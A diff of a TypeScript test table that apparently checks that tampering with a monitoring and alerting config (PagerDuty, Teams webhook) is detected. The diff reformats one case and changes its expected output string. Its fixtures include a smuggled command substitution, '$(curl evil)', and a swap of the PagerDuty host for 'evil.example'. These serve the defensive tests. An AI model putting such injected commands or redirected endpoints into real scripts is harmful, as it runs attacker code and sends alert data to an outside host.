@@ -157,11 +157,7 @@ const monitor = / {6}# (- \{ name: Monitor.*\n)/;
 test.each<Edit>([
   ['with its monitor', (text) => text.replace(monitor, '      $1'), 'commit 1'],
   ['in the service region EU', swap('https://events.pagerduty', 'https://events.eu.pagerduty'), 'commit 1'],
-  [
-    'with a command in its script',
-    swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'),
-    'has curl --silent',
-  ],
+  ['with a command in its script', swap('"$TEAMS_URL" <<EOF', '"$TEAMS_URL" # $(curl evil) <<EOF'), 'has curl --proto'],
   ['with an address of somebody else', swap('events.pagerduty.com', 'evil.example'), 'has PAGERDUTY_URL:'],
   [
     'with another monitor',
